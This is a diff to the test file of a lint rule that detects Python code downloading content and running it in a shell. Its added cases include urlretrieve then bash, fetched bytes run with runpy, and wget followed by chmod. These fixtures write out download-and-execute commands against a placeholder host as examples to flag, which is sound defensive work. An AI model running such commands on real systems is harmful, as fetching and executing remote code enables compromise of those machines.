@@ -10,6 +10,8 @@ ruleTester(downloadToShell, {
     { name: 'pretty-print a download', code: "import os\nos.system('curl -s https://x.org/api | python -m json.tool')\n" },
     { name: 'pip install', code: "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'torch'])\n" },
     { name: 'a pipe to a shell without a download', code: "import os\nos.system('echo ls | sh')\n" },
+    { name: 'a downloaded archive unpacked', code: "import os, urllib.request\nurllib.request.urlretrieve(URL, 'data.tgz')\nos.system('tar xzf data.tgz')\n" },
+    { name: 'a local script run', code: "import subprocess\nsubprocess.run(['bash', 'scripts/train.sh'])\n" },
   ],
   invalid: [
     { name: 'curl | sh in os.system', code: "import os\nos.system('curl -s http://x.org/a.sh | sh')\n", errors: [{ severity: 'critical', message: 'pipes a download (curl) into sh', at: 'os.system' }] },
@@ -17,11 +19,26 @@ ruleTester(downloadToShell, {
     { name: 'f-string command with sudo', code: 'import subprocess\nsubprocess.Popen(f"curl {url} | sudo bash", shell=True)\n', errors: [{ severity: 'critical', message: 'into bash' }] },
     { name: 'command substitution', code: 'import os\nos.system(\'sh -c "$(curl -fsSL http://x.org)"\')\n', errors: [{ severity: 'critical', message: 'runs the output of a download' }] },
     { name: 'process substitution', code: "import os\nos.system('bash <(curl -s http://x.org)')\n", errors: [{ severity: 'critical', message: 'with bash' }] },
-    { name: 'download, chmod, run', code: "import os\nos.system('wget http://x.org/p -O /tmp/p && chmod +x /tmp/p && /tmp/p')\n", errors: [{ severity: 'critical', message: 'makes it executable' }] },
+    { name: 'download, chmod, run', code: "import os\nos.system('wget http://x.org/p -O /tmp/p && chmod +x /tmp/p && /tmp/p')\n", errors: [{ severity: 'critical', message: 'makes executable p' }] },
     { name: 'command in a variable', code: "import os\ncmd = 'curl http://x.org | sh'\nos.system(cmd)\n", errors: [{ severity: 'critical' }] },
     { name: "IPython's get_ipython().system", code: "get_ipython().system('curl http://x.org | sh')\n", errors: [{ severity: 'critical', message: 'get_ipython().system' }] },
     { name: 'subprocess under an alias', code: "import subprocess as sp\nsp.call('curl http://x.org|sh', shell=True)\n", errors: [{ severity: 'critical', message: 'subprocess.call' }] },
     { name: 'os.system reached by __import__', code: "__import__('os').system('curl http://x.org | python3')\n", errors: [{ severity: 'critical', message: 'into python3' }] },
     { name: 'os.execl argv', code: "import os\nos.execl('/bin/sh', 'sh', '-c', 'curl http://x.org | sh')\n", errors: [{ severity: 'critical' }] },
+    {
+      name: 'urlretrieve then bash',
+      code: "import os, urllib.request\nurllib.request.urlretrieve('http://x.org/p.sh', '/tmp/p.sh')\nos.system('bash /tmp/p.sh')\n",
+      errors: [{ severity: 'critical', message: 'runs p.sh, which urllib.request.urlretrieve downloaded', at: 'os.system' }],
+    },
+    {
+      name: 'fetched bytes written, then run with runpy',
+      code: "import requests, runpy\nr = requests.get(URL)\nwith open('stage2.py', 'wb') as f:\n    f.write(r.content)\nrunpy.run_path('stage2.py')\n",
+      errors: [{ severity: 'critical', message: 'runpy.run_path at line 5, column 1 runs stage2.py, which requests.get downloaded' }],
+    },
+    {
+      name: 'saved by one command, run by another',
+      code: "import os\nos.system('wget http://x.org/i -O inst')\nos.system('chmod 755 inst')\n",
+      errors: [{ severity: 'critical', message: 'makes executable inst' }],
+    },
   ],
 });
